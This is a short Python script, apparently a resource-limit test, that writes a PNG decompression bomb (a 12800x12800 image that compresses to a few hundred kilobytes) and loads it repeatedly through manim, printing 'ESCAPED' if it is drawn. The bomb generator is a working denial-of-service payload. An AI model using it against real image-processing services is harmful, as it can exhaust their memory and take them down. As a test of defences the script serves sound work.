"""A picture of 160 million pixels in a file of a few hundred kilobytes."""

import struct
import zlib

from manim import ImageMobject, config


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


config.dry_run = True
packer = zlib.compressobj(9)
rows = b"".join(packer.compress(bytes(12801)) for _ in range(12800)) + packer.flush()
with open("bomb.png", "wb") as file:
    header = struct.pack(">IIBBBBB", 12800, 12800, 8, 0, 0, 0, 0)
    file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
for _ in range(100):
    ImageMobject("bomb.png")
print("ESCAPED: it was drawn")
